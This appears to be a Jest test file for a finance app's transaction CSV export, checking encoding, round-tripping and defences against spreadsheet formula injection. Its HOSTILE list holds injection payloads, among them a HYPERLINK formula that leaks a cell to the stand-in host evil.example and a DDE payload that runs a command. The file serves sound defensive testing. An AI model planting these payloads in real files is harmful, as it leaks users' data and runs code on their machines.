/**
 * @jest-environment node
 */
// The export file read back as its readers would: Papa Parse for the exact texts, and SheetJS as
// "a spreadsheet" for what becomes a formula or a number. Instants are written in UTC.
import { parse, unparse } from 'papaparse';
import { read, type CellObject, type WorkSheet } from 'xlsx';
import { TRANSACTIONS_CSV_COLUMNS, transactionCsvRow } from '@pitaka/domain';
import { transaction } from '../../testing/transaction-fixtures';
import { transactionsCsv, UTF8_BOM } from './transactions-csv-file';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** The first sheet of the file as SheetJS reads a downloaded CSV (bytes, not a JS string). */
function spreadsheet(csv: string): WorkSheet {
  const book = read(Buffer.from(csv, 'utf8'), { type: 'buffer' });
  return book.Sheets[book.SheetNames[0]];
}

const cells = (sheet: WorkSheet) =>
  Object.entries(sheet)
    .filter(([address]) => !address.startsWith('!'))
    .map(([address, cell]) => ({ address, ...(cell as CellObject) }));

/** Column letter of a header name (A = Date ... H = Source). */
const col = (name: (typeof TRANSACTIONS_CSV_COLUMNS)[number]) =>
  String.fromCharCode(65 + TRANSACTIONS_CSV_COLUMNS.indexOf(name));

describe('transactionsCsv', () => {
  it('is UTF-8 text with a byte order mark, one header row and CRLF line ends', () => {
    const csv = transactionsCsv([transaction(), transaction({ id: 't2', type: 'income', description: 'Sweldo' })]);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Date,Time,Type,Amount,Currency,Account,Category,Description,Source',
      '2026-03-09,12:30,Expense,-250.00,PHP,Wallet,Food,Groceries,',
      '2026-03-09,12:30,Income,250.00,PHP,Wallet,Food,Sweldo,',
    ]);
  });

  it('round-trips a 200-character description with quotes, commas, new lines, ñ and ₱ exactly', () => {
    const note = 'Bayad kay "Aling Nena", ₱1,500.00 — piña, ñ\r\nline two, "quoted, again"\nline three\t';
    const description = note.repeat(4).padEnd(200, 'ñ₱,"').slice(0, 200);
    expect(description).toHaveLength(200);
    const t = transaction({ description, accountName: 'BPI, "Main"', category: 'Bills & Fees' });
    const csv = transactionsCsv([t]);
    const parsed = parse<string[]>(csv.slice(UTF8_BOM.length), { newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual([[...TRANSACTIONS_CSV_COLUMNS], transactionCsvRow(t)]);
    expect(parsed.data[1][TRANSACTIONS_CSV_COLUMNS.indexOf('Description')]).toBe(description);
  });

  it('reads ₱ and ñ back in a spreadsheet because of the byte order mark', () => {
    const csv = transactionsCsv([transaction({ description: 'Piña ₱5' })]);
    expect(spreadsheet(csv)[`${col('Description')}2`]?.v).toBe('Piña ₱5');
    // The same bytes without the mark are read as another encoding: the mark is what fixes it.
    expect(spreadsheet(csv.slice(UTF8_BOM.length))[`${col('Description')}2`]?.v).not.toBe('Piña ₱5');
  });
});

describe('a formula never reaches a spreadsheet as a formula', () => {
  const hostile = HOSTILE.map((text, i) =>
    transaction({ id: `h${i}`, description: text, accountName: text, category: text }),
  );

  it('no cell of the file is a formula; each hostile text reads back as written, behind its apostrophe', () => {
    const sheet = spreadsheet(transactionsCsv(hostile));
    expect(cells(sheet).filter((cell) => cell.f !== undefined)).toEqual([]);
    HOSTILE.forEach((text, i) => {
      for (const name of ['Account', 'Category', 'Description'] as const) {
        expect(sheet[`${col(name)}${i + 2}`]).toMatchObject({ t: 's', v: `'${text}` });
      }
      // The amount of money out starts with '-' too, and stays a number.
      expect(sheet[`${col('Amount')}${i + 2}`]).toMatchObject({ t: 'n', v: -250 });
    });
  });

  it('the same rows written without neutralising would give the spreadsheet a formula (so the check above can fail)', () => {
    const raw = hostile.map((t) => {
      const row = transactionCsvRow(t);
      for (const name of ['Account', 'Category', 'Description'] as const)
        row[TRANSACTIONS_CSV_COLUMNS.indexOf(name)] = t.description;
      return row;
    });
    const sheet = spreadsheet(UTF8_BOM + unparse({ fields: [...TRANSACTIONS_CSV_COLUMNS], data: raw }));
    expect(cells(sheet).filter((cell) => cell.f !== undefined).length).toBeGreaterThan(0);
  });
});
